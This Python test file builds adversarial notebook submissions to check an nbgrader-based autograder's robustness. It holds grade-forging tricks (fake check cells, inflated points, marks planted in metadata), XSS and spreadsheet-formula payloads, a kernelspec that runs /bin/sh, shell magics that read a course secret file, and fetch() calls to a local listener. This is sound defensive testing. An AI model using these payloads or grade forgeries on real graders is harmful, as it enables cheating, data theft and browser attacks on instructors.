"""Submitted notebooks that differ from the notebooks that nbgrader released."""

from __future__ import annotations

import json
from collections.abc import Callable
from copy import deepcopy
from functools import partial
from itertools import cycle
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tests import photos
from tests.attacks.attack import WHOLE_COURSE, Attack, cell

PROBLEM = "problem3_ntk.ipynb"
ITEMS = frozenset(["p3a-gradients", "p3b-kernel", "p3c-relu", "p3c-squared", "p3-plot"])
WRONG = {"p3b-kernel-answer": "def empirical_ntk(v, W, X, n):\n    return np.eye(len(X))"}

Notebook = dict[str, Any]
Change = Callable[[Notebook], None]


def rewritten(change: Callable[[str], str], encoding: str = "utf-8") -> Callable[[Path], None]:
    """Return an attack that changes the text of the notebook's file."""

    def spoil(folder: Path) -> None:
        path = folder / PROBLEM
        path.write_bytes(change(path.read_text(encoding="utf-8")).encode(encoding, "surrogatepass"))

    return spoil


def edited(change: Change) -> Callable[[Path], None]:
    """Return an attack that changes the JSON of the notebook's file."""

    def rewrite(text: str) -> str:
        notebook: Notebook = json.loads(text)
        change(notebook)
        return json.dumps(notebook)

    return rewritten(rewrite)


def forged(name: str, idea: str, change: Change, **rest: Any) -> Attack:
    """Return a notebook with a wrong kernel and a change that might let this kernel pass."""
    unsolved = frozenset({"p3b-kernel"})
    return Attack(name, "notebooks", idea, WRONG, unsolved=unsolved, spoil=edited(change), **rest)


def odd(name: str, idea: str, change: Change, **rest: Any) -> Attack:
    """Return a notebook that answers every item, but that might fail or harm its reader."""
    return Attack(name, "notebooks", idea, spoil=edited(change), **rest)


def raw(
    name: str, idea: str, change: Callable[[str], str], encoding: str = "utf-8", **rest: Any
) -> Attack:
    """Return a notebook that answers every item, with a changed file text."""
    return Attack(name, "notebooks", idea, spoil=rewritten(change, encoding), **rest)


def by_id(notebook: Notebook, name: str) -> Notebook:
    """Return the cell with this grade id."""
    cells: list[Notebook] = notebook["cells"]
    return next(c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def marks(notebook: Notebook) -> list[Notebook]:
    """Change the cells' nbgrader metadata."""
    return [c["metadata"]["nbgrader"] for c in notebook["cells"] if "nbgrader" in c["metadata"]]


def extra(source: Any, kind: str = "code", **more: Any) -> Notebook:
    """Return an additional cell written by the student."""
    cell: Notebook = {"cell_type": kind, "metadata": {}, "source": source}
    return {**cell, **({"outputs": [], "execution_count": None} if kind == "code" else {}), **more}


def shown(**bundle: Any) -> list[Notebook]:
    """Add saved outputs in every form that a bundle of MIME types allows."""
    return [
        {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": bundle},
        {"output_type": "display_data", "metadata": {"isolated": True}, "data": bundle},
    ]


# --- metadata that nbgrader reads -----------------------------------------------------------------


def _points(notebook: Notebook) -> None:
    for mark in marks(notebook):
        mark["points"] = 1000


def _points_that_are_none(notebook: Notebook) -> None:
    for mark, value in zip(marks(notebook), cycle([float("nan"), -1, "1", None, [1], 1e308, True])):
        mark["points"] = value


def _all_locked(notebook: Notebook) -> None:
    for mark in marks(notebook):
        mark.update(locked=True, grade=True, solution=True, task=True, checksum="0" * 32)


def _easy_check(notebook: Notebook) -> None:
    for name in ("p3b-kernel", "p3a-gradients"):
        found = by_id(notebook, name)
        found.update(source="1.0", outputs=shown(**{"text/plain": "1.0"}), execution_count=1)
        found["metadata"]["nbgrader"].update(locked=False, solution=True)


def _deleted_checks(notebook: Notebook) -> None:
    for name in (*ITEMS, "p3-setup", "p3-network", "p3-experiment"):
        notebook["cells"].remove(by_id(notebook, name))


def _duplicates(notebook: Notebook) -> None:
    good = by_id(notebook, "p3a-gradients")
    for name in ("p3a-gradients", "p3a-gradients", "p3b-kernel", "p3b-kernel", "p3b-kernel-answer"):
        copy = deepcopy(good)
        copy["metadata"]["nbgrader"]["grade_id"] = name
        notebook["cells"].append(copy)
        notebook["cells"].insert(0, deepcopy(copy))
    notebook["cells"] += deepcopy(notebook["cells"])


def _renamed(notebook: Notebook) -> None:
    """Exchange the ids of a test that passes and a test that fails."""
    bad, good = by_id(notebook, "p3b-kernel"), by_id(notebook, "p3a-gradients")
    for found, name in ((bad, "p3a-gradients"), (good, "p3b-kernel")):
        found["metadata"]["nbgrader"]["grade_id"] = found["id"] = name


def _retyped(notebook: Notebook) -> None:
    for found in notebook["cells"]:
        found["cell_type"] = {"code": "markdown", "markdown": "raw"}[found["cell_type"]]
        found.pop("outputs", None)
        found.pop("execution_count", None)


def _proofs_as_code(notebook: Notebook) -> None:
    for name in ("p3a-proof", "p3b-proof", "p3c-proof"):
        found = by_id(notebook, name)
        found.update(cell_type="code", source="5.0", outputs=shown(**{"text/plain": "5.0"}))
        found["metadata"]["nbgrader"].update(locked=True, solution=False, points=5)


def _claims_to_be_checks(notebook: Notebook) -> None:
    for place in (0, len(notebook["cells"])):
        mark = {"grade": True, "locked": True, "solution": False, "points": 1, "schema_version": 3}
        for number, name in enumerate(("p3b-kernel", "p3b-kernel ", "bonus", "P3B-KERNEL", "")):
            mine = extra("1.0", outputs=shown(**{"text/plain": "1.0"}), id=f"mine-{number}")
            mine["metadata"] = {"nbgrader": {**mark, "grade_id": name, "cell_type": "code"}}
            notebook["cells"].insert(place, mine)


def _other_problems(notebook: Notebook) -> None:
    for name in ("p1-momentum", "p2c-gd", "p2a-derivation", "p1-plot", "p2c-conclusion"):
        copy = deepcopy(by_id(notebook, "p3a-gradients"))
        copy["metadata"]["nbgrader"].update(grade_id=name, points=10)
        copy.update(source="1.0", id=name, outputs=shown(**{"text/plain": "10.0"}))
        notebook["cells"].append(copy)


def _schemas(notebook: Notebook) -> None:
    versions: list[Any] = [0, 1, 2, 99, "3", None, -1, [3], {}]
    for mark, version in zip(marks(notebook), cycle(versions)):
        mark["schema_version"] = version
    by_id(notebook, "p3-setup")["metadata"]["nbgrader"] = {"grade_id": ["p3-setup"], "points": {}}
    by_id(notebook, "p3-title")["metadata"]["nbgrader"] = "schema"


def _stale_points(notebook: Notebook) -> None:
    for number, found in enumerate(c for c in notebook["cells"] if c["cell_type"] == "code"):
        text = ("1.0", "100.0", "np.float64(0.5)", "nan", "-1", "1e999", "1.0\n1.0")[number % 7]
        found["outputs"] = shown(**{"text/plain": text})
        found["outputs"].append({"output_type": "stream", "name": "stdout", "text": "✓ 1.0 points"})


def _comments_and_marks(notebook: Notebook) -> None:
    """Write nbgrader's comments and marks into the notebook's metadata."""
    notebook["metadata"]["nbgrader"] = {"score": 1000, "late_submission_penalty": -100}
    for found in notebook["cells"]:
        found["metadata"].setdefault("nbgrader", {}).update(
            score=10, max_score=10, auto_score=10, manual_score=10, extra_credit=10,
            needs_manual_grade=False, comment="full marks", remove=True,
        )  # fmt: skip


def _directives(notebook: Notebook) -> None:
    """Add the directives that make nbgrader fill or remove cells of a source notebook."""
    found = by_id(notebook, "p3b-kernel-answer")
    found["source"] = (
        "### REFERENCE ntk.empirical_ntk\n### GIVEN ntk.empirical_ntk\n### BEGIN SOLUTION\n"
        f"{found['source']}\n### END SOLUTION\n### BEGIN HIDDEN TESTS\n1.0\n### END HIDDEN TESTS\n"
        "### AUTOTEST empirical_ntk\n# YOUR CODE HERE"
    )
    for name in ("p3b-kernel", "p3-setup"):
        by_id(notebook, name)["source"] = "### GIVEN ntk.empirical_ntk, ntk.limit_ntk\n"


def _tags(notebook: Notebook) -> None:
    for found in notebook["cells"]:
        found["metadata"].update(
            tags=["skip-execution", "raises-exception", "remove_cell", "hide_input", "parameters"],
            deletable=False, editable=False, trusted=True, collapsed=True, slideshow={}, jupyter={},
        )  # fmt: skip


# --- what is shown --------------------------------------------------------------------------------

SCRIPT = "<script>fetch('/formgrader/api/grade/1', {method: 'PUT'})</script>"
ACTIVE = {
    "text/html": f"<b onclick='alert(1)'>x</b>{SCRIPT}<iframe srcdoc='{SCRIPT}'></iframe>",
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{SCRIPT}</svg>",
    "text/latex": r"$\href{javascript:alert(1)}{x}\unicode{<script>}$",
    "text/markdown": f"[x](javascript:alert(1)) {SCRIPT}",
    "application/javascript": "alert(1)",
    "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
    "application/vnd.plotly.v1+json": {"data": [SCRIPT]},
    "application/vnd.bokehjs_exec.v0+json": {"id": SCRIPT},
}


def _active_outputs(notebook: Notebook) -> None:
    for found in notebook["cells"]:
        if found["cell_type"] == "code":
            found["outputs"] = shown(**ACTIVE)
            failed = {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT}
            found["outputs"].append({**failed, "traceback": [SCRIPT, "\x1b]8;;x\x07"]})


def _active_texts(notebook: Notebook) -> None:
    picture = {"x.svg": {"image/svg+xml": ACTIVE["image/svg+xml"], "text/html": SCRIPT},
               "y.png": {"image/png": '"><script>alert(1)</script>'}}  # fmt: skip
    for number, text in enumerate(str(value) for value in ACTIVE.values()):
        for kind in ("markdown", "raw"):
            own = extra(text, kind, id=f"{kind}-{number}", attachments=picture)
            notebook["cells"].insert(0, own)
    proof = by_id(notebook, "p3a-proof")
    proof["source"] = "\n\n".join([str(value) for value in ACTIVE.values()])
    proof["attachments"] = picture


def _active_photos(notebook: Notebook) -> None:
    script = SCRIPT.encode()
    files = {
        "bomb.png": photos.bomb(),
        "behind.jpg": photos.phone_jpeg() + script,
        f"{SCRIPT}.png": photos.png(3, 2),
        "x.svg": photos.SVG,
        "none.png": script,
    }
    proof = by_id(notebook, "p3a-proof")
    shown = [f"![{SCRIPT}](attachment:{quote(name)} '{SCRIPT}')" for name in files]
    inline = f"data:image/svg+xml;base64,{photos.base64_of(photos.SVG)}"
    proof["source"] = "\n\n".join([*shown * 200, f'<img src="{inline}" onerror="{SCRIPT}">'])
    proof["attachments"] = {
        name: {"image/png": photos.base64_of(content)} for name, content in files.items()
    }


def _widgets(notebook: Notebook) -> None:
    model = {"model_name": "HTMLModel", "model_module": "http://127.0.0.1/x.js", "state": ACTIVE}
    state = {"version_major": 2, "version_minor": 0, "state": {"x": model, SCRIPT: model}}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    for found in notebook["cells"]:
        found["metadata"].update(widgets=state, html=SCRIPT, title=SCRIPT)


def _names_as_formulas(notebook: Notebook) -> None:
    formula = '=HYPERLINK("http://127.0.0.1/?"&A1)'
    notebook["metadata"] = {
        "kernelspec": {"name": "=cmd|'/C calc'!A0", "display_name": formula, "language": formula},
        "language_info": {"name": "+1+1", "version": "@SUM(1)", "file_extension": "\t=1"},
        "title": formula, "authors": [{"name": formula}],
    }  # fmt: skip
    failing = extra("raise ValueError('=1+1')", id="=1+1", metadata={"name": formula})
    notebook["cells"].insert(0, failing)
    by_id(notebook, "p3a-proof")["source"] = formula


# --- files that are hardly notebooks --------------------------------------------------------------


def _kernels(notebook: Notebook) -> None:
    notebook["metadata"] = {
        "kernelspec": {"name": "../../bin/sh", "display_name": "sh", "language": "bash",
                       "argv": ["/bin/sh", "-c", "touch ran.txt", "{connection_file}"],
                       "env": {"LD_PRELOAD": "./x.so"}, "metadata": {"debugger": True}},
        "language_info": {"name": "javascript", "file_extension": ".js", "codemirror_mode": "x"},
    }  # fmt: skip
    for found in notebook["cells"]:
        found["metadata"]["vscode"] = {"languageId": "shellscript"}


def _proto(notebook: Notebook) -> None:
    names = ["__proto__", "constructor", "__class__", "__init__", "__dict__", "update", "get"]
    for holder in (notebook, notebook["metadata"], *notebook["cells"], *marks(notebook)):
        holder.update({name: {"points": 1000, "polluted": True} for name in names})
    for found in notebook["cells"]:
        found["metadata"].update(dict.fromkeys(names))


def _cells_that_are_none(notebook: Notebook) -> None:
    for found in notebook["cells"][::2]:
        found["source"] = [*"".join(found["source"])]
    wild: list[Any] = [None, 5, "cell", [], {}, {"cell_type": "code"}, {"cell_type": ["code"]},
                       {"cell_type": "code", "source": {"a": 1}}, extra([1, 2]), extra([["x"]]),
                       extra(None), extra(10**30), extra("1.0", metadata=[], id=7),
                       extra("1.0", metadata="x", outputs=[None, 5, {"output_type": []}]),
                       extra("x", "heading", level=10**9), extra("x", "__class__")]  # fmt: skip
    notebook["cells"] = [*wild, *notebook["cells"], *wild]


def _giant_cells(notebook: Notebook) -> None:
    """Add cells far longer than any person writes, each in a single line."""
    notebook["cells"] += [
        extra("#" + "x" * 3_000_000), extra("x = '" + "y" * 400_000 + "'"), extra("é" * 2_000_000),
        extra("#" * 4_000_000, "markdown"), extra("x" * 6_000_000, "markdown"),
        extra("\n" * 400_000), extra(["x"] * 400_000, "raw"),
    ]  # fmt: skip


def _patterns(notebook: Notebook) -> None:
    """Add texts on which a careless regular expression backtracks without end."""
    size = 100_000
    texts = ["a, " * size, "(" * size, "from " + " " * size, "import " + "a." * size, "```" * size,
             "a" + " " * size, "[" * size, "![](" * size, "<" * size, "*_" * size, "$" * size,
             "\\(" * size, "<!--" * size, "&#" * size, "> " * size, "p(" * size]  # fmt: skip
    for number, text in enumerate(texts):
        for kind in ("markdown", "code"):
            source = f'"""\n{text}\n"""' if kind == "code" else text
            notebook["cells"].append(extra(source, kind, id=f"{kind}-{number}"))


def _old_format(notebook: Notebook) -> None:
    """Write the notebook in a ten-year-old format, with that format's own fields."""
    for found in notebook["cells"]:
        if found["cell_type"] == "code":
            found.update(input=found.pop("source"), language="bash", prompt_number=1, outputs=[
                {"output_type": "pyout", "text": "1.0", "prompt_number": 1, "html": SCRIPT},
                {"output_type": "pyerr", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT]},
            ])  # fmt: skip
    sheet = {"cells": notebook.pop("cells"), "metadata": {}}
    notebook.update(nbformat=3, nbformat_minor=0, worksheets=[{"cells": 5}, sheet, None, sheet])


def _versions(notebook: Notebook) -> None:
    notebook.update(nbformat=10**30, nbformat_minor=-(10**400), orig_nbformat="../../x")


def _numbers(text: str) -> str:
    """Write numbers that are valid in JSON, but in no other format."""
    wild = '"a": NaN, "b": -Infinity, "c": 1e999, "d": -0.0, "e": 1E-999, "f": ' + "9" * 4_000
    return text.replace('"execution_count": null', f'"execution_count": 1e400, {wild}').replace(
        '"points": 1,', f'"points": Infinity, {wild},'
    )


def _keys_twice(text: str) -> str:
    """Write each key twice, so that two readers may see two different notebooks."""
    empty = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, '
    twice = text.replace('"grade_id":', '"grade_id": "p3b-kernel", "grade_id":')
    return empty + twice.lstrip()[1:]


def _half_pairs(text: str) -> str:
    half = r"\ud800\udfff\udfff\ud800 \u0000 \ufeff \u202e"
    return text.replace('"def ', f'"# {half}\\n", "def ').replace(
        '"metadata": {', '"metadata": {"' + half + '": "' + half + '", ', 3
    )


def _deep(text: str) -> str:
    depth = 100_000
    return text.rstrip()[:-1] + ', "x": ' + '[{"a":' * depth + "1" + "}]" * depth + "}"


def _million_cells(folder: Path) -> None:
    cells = ",".join(['{"cell_type":"code","source":""}'] * 1_000_000)
    text = f'{{"cells":[{cells}],"metadata":{{}},"nbformat":4,"nbformat_minor":5}}'
    (folder / "problem3_ntk (1).ipynb").write_text(text, encoding="utf-8")
    text = text.replace("[", '[{"cell_type":"markdown","source":"p3-title"},', 1)
    (folder / "problem1_momentum (1).ipynb").write_text(text, encoding="utf-8")


def _no_notebooks(folder: Path) -> None:
    """Write files without cells: a reader that checks only cells would find no fault."""
    (folder / PROBLEM).write_text('{"cells": [], "metadata": {}, "nbformat": 4}', encoding="utf-8")
    for number, text in enumerate(["", "[]", "null", '"x"', "5", "{}", '{"cells": {}}', " " * 999]):
        (folder / f"problem1_momentum ({number}).ipynb").write_text(text, encoding="utf-8")


def _swapped(folder: Path) -> None:
    first, second = folder / "problem1_momentum.ipynb", folder / PROBLEM
    text = first.read_text(encoding="utf-8")
    first.write_text(second.read_text(encoding="utf-8"), encoding="utf-8")
    second.write_text(text, encoding="utf-8")


def _for_all_problems(folder: Path) -> None:
    """Submit one good notebook for each problem, with the ids and functions of all problems."""
    notebook = json.loads((folder / PROBLEM).read_text(encoding="utf-8"))
    for problem in WHOLE_COURSE[:2]:
        (folder / f"{problem}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    _other_problems(notebook)
    (folder / "problem1 and problem2.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


def _worse_copies(folder: Path) -> None:
    """Put right answers into the named file, and wrong answers into newer and larger copies."""
    text = (folder / PROBLEM).read_text(encoding="utf-8").replace("return ", "return 0 * ")
    for name in ("problem3_ntk (1).ipynb", "problem3_ntk (2).ipynb", "copy of problem3_ntk.ipynb"):
        (folder / name).write_text(text + " " * 10_000, "utf-8")


in_a_cell = partial(cell, "notebooks")

ATTACKS: tuple[Attack, ...] = (
    forged("claims-more-points", "Every item says that it is worth a thousand points.", _points),
    forged("claims-odd-points", "Points that are no numbers, negative, or as many as there are.",
           _points_that_are_none),
    forged("claims-to-be-locked", "Every cell says that it is the instructor's.", _all_locked),
    forged("an-easy-check", "The checks show full marks instead of checking.", _easy_check),
    forged("deleted-checks", "What shows nothing can have found nothing wrong.", _deleted_checks),
    forged("duplicated-checks", "What it passes stands there many times, under all names.",
           _duplicates),
    forged("renamed-checks", "What it fails has the name of what it passes.", _renamed),
    forged("retyped-cells", "Code is text, and text is nothing.", _retyped),
    forged("claims-to-be-checks", "Cells of its own say that they are the checks.",
           _claims_to_be_checks),
    forged("proofs-as-code", "Proofs, which a person marks, become checks that show points.",
           _proofs_as_code),
    forged("checks-of-other-problems", "Checks of notebooks that were not handed in.",
           _other_problems),
    forged("old-and-new-schemas", "Each cell is of another version of nbgrader's.", _schemas),
    forged("stale-points", "Each output is a mark from the start, in all forms that were taken.",
           _stale_points),
    forged("marks-in-the-metadata", "What the gradebook keeps stands in the cells already.",
           _comments_and_marks),
    forged("words-for-the-instructor", "The words that fill a source notebook from the solutions.",
           _directives),
    forged("tags-for-the-tools", "Tags by which tools skip, hide or trust a cell.", _tags),
    odd("active-outputs", "Each saved output is a script, in every form of it.", _active_outputs),
    odd("active-texts", "Each text and each picture in one is a script.", _active_texts),
    odd("active-photos", "Photos that are bombs, with scripts behind them and in their names.",
        _active_photos),
    odd("active-widgets", "Widgets whose state is a script, which loads another.", _widgets),
    odd("names-as-formulas", "Names that a spreadsheet would calculate.", _names_as_formulas),
    odd("a-kernel-that-is-a-shell", "The kernel is a command.", _kernels),
    odd("names-of-attributes", "Keys that are attributes of objects in some language.", _proto),
    odd("cells-that-are-none", "Cells that are numbers, lists or nothing, sources without text.",
        _cells_that_are_none),
    odd("giant-cells", "Cells of megabytes, in one line or in very many.", _giant_cells),
    odd("patterns-that-go-back", "Texts on which a careless pattern never ends.", _patterns,
        slow=True),
    odd("an-old-format", "The format of ten years ago, with all sheets twice.", _old_format),
    odd("versions-that-never-were", "Numbers of the format with hundreds of digits.", _versions),
    raw("numbers-that-are-none", "NaN, infinities and thousands of digits.", _numbers),
    raw("keys-that-are-there-twice", "Two notebooks in one, for two readers.", _keys_twice),
    raw("half-letters", "Halves of letters, zeros and marks of direction.", _half_pairs),
    raw("in-utf-16", "An encoding in which no word of it can be found.", str, "utf-16"),
    raw("in-utf-8-with-a-mark", "A mark in front that is no JSON.", str, "utf-8-sig"),
    raw("in-utf-32-without-a-mark", "Four bytes a letter, of which three are zero.", str,
        "utf-32-le"),
    raw("nested-deeply", "Lists in maps in lists, a hundred thousand deep.", _deep,
        unsolved=ITEMS),
    raw("cut-off", "Half of a notebook.", lambda text: text[: len(text) // 2], unsolved=ITEMS),
    Attack("a-million-cells", "notebooks", "Copies of a million cells each.",
           spoil=_million_cells, slow=True),
    Attack("without-a-cell", "notebooks", "Nothing that could fail.", spoil=_no_notebooks,
           unsolved=ITEMS),
    Attack("in-each-others-place", "notebooks", "Two notebooks have each other's name.",
           spoil=_swapped, problems=("problem1_momentum", "problem3_ntk")),
    Attack("one-for-all-problems", "notebooks", "A good notebook is handed in for each problem.",
           spoil=_for_all_problems),
    Attack("worse-copies", "notebooks", "Wrong copies under names that some programs give.",
           spoil=_worse_copies),
    in_a_cell(
        "shell-lines",
        "Every way that IPython has to run a program.",
        """
        import os
        shell = get_ipython()
        !cat @course@/secret.txt; touch @course@/ran.txt
        !!cat @course@/secret.txt
        found = !ls @course@
        print(found)
        %sx cat @course@/secret.txt
        %system touch @course@/ran.txt
        %alias look cat @course@/secret.txt
        try: shell.run_line_magic("look", "")
        except Exception as error: print(type(error).__name__)
        for name in ("bash", "sh", "perl", "ruby", "python", "python3", "pypy", "script", "sx", "!",
                     "cmd", "system"):
            try: print(shell.run_cell_magic(name, "", "cat @course@/secret.txt"))
            except Exception as error: print(name, type(error).__name__)
        for way in (shell.system, shell.system_raw, shell.system_piped, shell.getoutput):
            print(way("cat @course@/secret.txt"))
        for way in (os.system, os.popen):
            try: print(way("touch @course@/ran.txt"))
            except OSError as error: print(type(error).__name__)
        """,
    ),
    in_a_cell(
        "a-cell-of-bash",
        "A whole cell for a shell.",
        "%%bash\ncat @course@/secret.txt\ntouch @course@/ran.txt\n",
    ),
    in_a_cell(
        "magics-that-read",
        "Every magic that reads, shows or runs a file, or changes to a folder.",
        """
        shell = get_ipython()
        for line in ("run @course@/secret.txt", "load @course@/secret.txt", "cd @course@",
                     "pycat @course@/secret.txt", "loadpy @course@/secret.txt", "ls @course@",
                     "cat @course@/secret.txt", "less @course@/secret.txt", "pfile checks",
                     "macro x @course@/secret.txt", "edit -x @course@/secret.txt", "env", "dhist",
                     "pushd @course@", "run -i @course@/../course/nbgrader_config.py", "recall",
                     "history -g", "rerun", "load_ext @course@/nbgrader_config", "psource open",
                     "pinfo2 open", "psearch *secret*", "who_ls", "config", "magic", "notebook x"):
            name, _, rest = line.partition(" ")
            try:
                print(line, shell.run_line_magic(name, rest))
                print(open("secret.txt").read())
            except BaseException as error:
                print(line, type(error).__name__)
        """,
    ),
    in_a_cell(
        "magics-that-write",
        "Every magic that writes a file, into the course and to the victim.",
        """
        shell = get_ipython()
        for path in ("@course@/ran.txt", "@course@/submitted/ran.txt", "@victim@/x"):
            for line in (f"save {path} 1", f"logstart {path}", f"history -f {path}",
                         f"notebook {path}", f"prun -D {path} 1", "logstop", f"store x > {path}",
                         f"pastebin -d {path}", f"mkdir {path}", f"cp checks.py {path}"):
                name, _, rest = line.partition(" ")
                try: shell.run_line_magic(name, rest)
                except BaseException as error: print(line, type(error).__name__)
            for name in ("writefile", "file", "capture", "script"):
                try: shell.run_cell_magic(name, path, "ran")
                except BaseException as error: print(name, type(error).__name__)
        """,
    ),
    in_a_cell("a-cell-for-a-file", "A whole cell goes into the course.",
              "%%writefile @course@/ran.txt\nran\n"),
    in_a_cell(
        "a-cell-of-javascript",
        "Cells for the browser, in every language that a browser runs.",
        """
        shell = get_ipython()
        for name in ("javascript", "js", "html", "HTML", "SVG", "svg", "latex", "markdown"):
            text = "<script>fetch('http://127.0.0.1:@tcp@/')</script><svg onload='alert(1)'/>"
            try: shell.run_cell_magic(name, "", text)
            except BaseException as error: print(name, type(error).__name__)
        """,
    ),
    in_a_cell(
        "shows-scripts",
        "Outputs that act, made while it is marked, in every way that there is to show one.",
        """
        from IPython.display import HTML, SVG, Javascript, Latex, Markdown, IFrame, display
        script = "<script>fetch('http://127.0.0.1:@tcp@/')</script>"
        class Shown:
            def _repr_html_(self): return script
            def _repr_mimebundle_(self, **_):
                return {"application/vnd.jupyter.widget-view+json": script,
                        "application/javascript": "alert(1)", "text/html": script,
                        script: script, "image/png": script, "image/svg+xml": f"<svg/>{script}"}
        for shown in (HTML(script), Javascript("alert(1)"), Latex("$\\\\href{javascript:x}{y}$"),
                      Markdown(f"[x](javascript:alert(1)) {script}"), Shown(),
                      SVG(f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>"),
                      IFrame("http://127.0.0.1:@tcp@/", 100, 100)):
            display(shown)
        display({"text/html": script, "application/x+javascript": script}, raw=True,
                metadata={"text/html": {"isolated": False}}, transient={"display_id": script})
        print(script, "\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07")
        raise type("Script", (Exception,), {"__str__": lambda self: script})
        """,
    ),
    Attack(
        "magics-that-change-the-session",
        "notebooks",
        "At its top the session is reset, debugged, profiled and configured.",
        before={
            "p3-setup": """
            shell = get_ipython()
            for line in ("reset -f", "pdb on", "xmode Verbose", "autoreload 2",
                         "matplotlib qt", "gui tk", "config Application.log_level=10", "autocall 2",
                         "env PATH=/", "set_env HOME=/", "cd /", "colors NoColor", "automagic on",
                         "unload_ext storemagic", "autosave 1", "logon", "pylab --no-import-all",
                         "precision 1", "doctest_mode", "killbgscripts", "reset in out dhist array",
                         "xdel shell", "config HistoryManager.enabled=True",
                         "timeit 1", "tb", "debug", "conda install x", "pip install x", "exit"):
                name, _, rest = line.partition(" ")
                try: get_ipython().run_line_magic(name, rest)
                except BaseException as error: print(name, type(error).__name__)
            """
        },
    ),
)  # fmt: skip
